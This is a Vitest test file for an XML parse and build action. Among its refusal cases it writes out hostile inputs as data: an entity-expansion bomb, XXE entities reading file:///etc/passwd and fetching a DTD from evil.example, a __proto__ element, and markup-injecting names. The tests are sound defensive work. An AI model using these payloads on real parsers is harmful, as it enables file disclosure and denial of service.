import { fakeContext, runAction } from '@cloudflow/sdk/testing/index.ts';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import build from './build.action.ts';
import parse from './parse.action.ts';

const read = (text: string, more: object = {}) => runAction(parse, fakeContext({ config: { text, ...more } }));
const written = async (value: unknown, more: object = {}) =>
  (await runAction(build, fakeContext({ config: { name: 'a', value, declaration: false, ...more } }))).text;

describe('xml.parse', () => {
  it('reads elements, attributes, text, CDATA and characters by name and number, once', async () => {
    const text = `<?xml version="1.0"?><!-- c --><order id="1 &lt; 2"><line>t &amp;amp; &#233; &#x1F642;</line><line/>
      <note><![CDATA[<b> &amp;]]></note></order>`;
    expect(await read(text)).toEqual({
      name: 'order',
      value: { '@id': '1 < 2', line: ['t &amp; é 🙂', ''], note: '<b> &amp;' },
    });
  });

  it('makes lists of one where it is told to, and drops prefixes', async () => {
    const text = '<s:order xmlns:s="urn:x"><s:line>007</s:line></s:order>';
    expect(await read(text, { lists: ['line'], prefixes: 'drop' })).toMatchObject({
      name: 'order',
      value: { line: ['007'] },
    });
    expect(await read('<a><a>1</a></a>', { lists: ['a'] })).toEqual({ name: 'a', value: { a: ['1'] } });
  });

  const bomb = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>`;
  it.each([
    ['a bomb of entities', bomb],
    ['an external entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
    ['an external entity of parameters', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>'],
    ['an entity nobody declared', '<x>&nbsp;</x>'],
    ['a character that is none', '<x>&#0;</x>'],
    ['half a pair', '<x>&#xD800;</x>'],
    ['an open element', '<x>'],
    ['a wrong end', '<x></y>'],
    ['two documents', '<x/><y/>'],
    ['two documents of one name', '<x/><x/>'],
    ['an attribute twice', '<x a="1" a="2"/>'],
    ['text', 'hello'],
    ['nothing', ''],
    ['what would reach a prototype', '<x><__proto__>1</__proto__></x>'],
    ['what is nested too deep', '<a>'.repeat(500) + '</a>'.repeat(500)],
  ])('refuses %s', async (_what, text) => {
    await expect(read(text)).rejects.toMatchObject({ name: 'ActionError', code: 'data_invalid' });
  });

  it('reads over a DOCTYPE that declares nothing, without fetching it', async () => {
    expect(await read('<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x>1</x>')).toEqual({ name: 'x', value: '1' });
  });
});

describe('xml.build', () => {
  it('writes elements, attributes, lists and text, escaped', async () => {
    const value = { '@id': '1 < "2"', line: ['t & <b>', null, 3, { b: 1 }, true], '#text': "it's" };
    const text = await written(value);
    expect(text).toBe(
      '<a id="1 &lt; &quot;2&quot;"><line>t &amp; &lt;b&gt;</line><line/><line>3</line><line><b>1</b></line><line>true</line>it&apos;s</a>',
    );
    expect(await written(null, { declaration: true })).toBe('<?xml version="1.0" encoding="UTF-8"?>\n<a/>');
    expect(await written({ b: { c: 1 } }, { indent: true })).toBe('<a>\n  <b>\n    <c>1</c>\n  </b>\n</a>\n');
  });

  it.each([
    [{ 'b><c': 'x' }, '/value/b><c'],
    [{ 'b c="1"': 'x' }, '/value/b c="1"'],
    [{ '@on x': '1' }, '/value/@on x'],
    [{ '?pi': '1' }, '/value/?pi'],
    [{ '@a': { b: 1 } }, '/value/@a'],
    [{ b: [[1]] }, '/value/b/0'],
    [{ b: 'a\0b' }, '/value/b'],
    [{ b: '\uD800' }, '/value/b'],
    [[1, 2], '/value'],
  ])('refuses %j', async (value, pointer) => {
    await expect(written(value)).rejects.toMatchObject({ code: 'config_invalid', details: { pointer } });
  });

  it('refuses what would hold up the process', async () => {
    await expect(written({ b: new Array(20_001).fill(1) })).rejects.toMatchObject({ code: 'config_invalid' });
    const deep = JSON.parse('{"b":'.repeat(200) + '1' + '}'.repeat(200));
    await expect(written(deep)).rejects.toMatchObject({ code: 'config_invalid' });
  });

  it('is read again as it was', async () => {
    const plain = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 10 }).filter((text) => {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: XML cannot hold them
      return text === text.trim() && text.isWellFormed() && !/[\0-\x1F\uFFFE\uFFFF]/.test(text);
    });
    const name = fc.stringMatching(/^[a-z_][a-z0-9_-]{0,6}$/).filter((text) => !(text in {}) && text !== 'prototype');
    const value = fc.dictionary(name, fc.oneof(plain, fc.array(plain, { minLength: 2 })), { minKeys: 1 });
    await fc.assert(
      fc.asyncProperty(value, plain, async (given, attribute) => {
        const whole = { '@id': attribute, ...given };
        expect(await read(await written(whole))).toEqual({ name: 'a', value: whole });
      }),
    );
  });
});
